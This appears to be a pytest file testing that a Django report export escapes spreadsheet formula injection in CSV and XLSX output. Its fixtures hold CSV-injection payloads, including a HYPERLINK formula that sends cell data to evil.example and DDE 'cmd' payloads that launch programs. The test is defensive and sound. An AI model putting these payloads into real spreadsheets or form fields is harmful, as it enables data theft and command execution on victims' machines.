"""The KIU report's CSV and XLSX carry no formulas, whatever staff typed into titles and names.

OWASP's CSV-injection guidance: text starting with =, +, -, @, a tab or a carriage return gets a
leading single quote, and the workbook writes every text cell as a string, never a formula.
"""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from openpyxl import load_workbook

from tasks import exports
from tasks.models import ActionPlan, Initiative, Target
from tasks.services.reports import status_report_generate
from tests.factories import local, track
from tests.tasks.util import event_with

pytestmark = pytest.mark.django_db

JUNE_1 = local(2026, 6, 1, 6, 0)
PLAN_TITLE = '=HYPERLINK("http://evil.example/?d="&A1,"Klik her")'
INITIATIVES = [
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+1+1",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
]
BRANCH_NAME = "=cmd|' /C notepad'!A1"
TRACK_NAME = '+HYPERLINK("http://evil.example")'
MALICIOUS = {PLAN_TITLE, *INITIATIVES, BRANCH_NAME, TRACK_NAME}
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def report(branch):
    branch.name = BRANCH_NAME
    branch.save()
    hygge = track("hygge")
    hygge.name_da = hygge.name_en = TRACK_NAME
    hygge.save()
    event_with(
        branch=branch, start=local(2026, 3, 3, 10, 0), rrule="FREQ=WEEKLY;COUNT=2", counts=[7, 9]
    )
    plan = ActionPlan.objects.create(year=2026, status=ActionPlan.Status.ADOPTED, title=PLAN_TITLE)
    Target.objects.create(plan=plan, branch=branch, track=hygge, held=12, attendance=120)
    for text in INITIATIVES:
        Initiative.objects.create(plan=plan, track=hygge, branch=branch, text=text)
    report = status_report_generate(as_of=date(2026, 6, 1), now=JUNE_1)
    # a negative number in the frozen data stays a number
    report.data["figures"][0]["target_held"] = -3
    return report


def test_the_workbook_has_no_formula_and_keeps_the_text_after_a_quote(report):
    book = load_workbook(io.BytesIO(exports.report_xlsx(report)))

    texts = set()
    numbers = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert cell.data_type == "s"
                    assert not cell.value.startswith(TRIGGERS), (sheet.title, cell.value)
                    texts.add(cell.value)
                elif isinstance(cell.value, int | float):
                    numbers.append(cell.value)
    # (XML reads a raw carriage return back as a line feed: that is the file format, not us)
    assert {"'" + text.replace("\r", "\n") for text in MALICIOUS} <= texts
    assert -3 in numbers
    assert 7 + 9 in numbers  # the attendance, a number


def test_the_csv_has_no_formula_and_keeps_the_text_after_a_quote(report):
    rows = list(csv.reader(io.StringIO(exports.report_csv(report).decode("utf-8-sig"))))

    fields = [field for row in rows for field in row]
    for field in fields:
        if field.startswith(TRIGGERS):
            float(field)  # only a number may start with "-" (or "+")
    assert "'" + BRANCH_NAME in fields
    assert "'" + TRACK_NAME in fields
    assert "-3" in fields


def test_ordinary_text_is_written_as_it_is(branch):
    assert exports._text_safe("Fredagshygge i Jyllinge") == "Fredagshygge i Jyllinge"
    assert exports._text_safe("'=1") == "'=1"
    assert exports._text_safe(-3) == -3
    assert exports._text_safe(None) is None
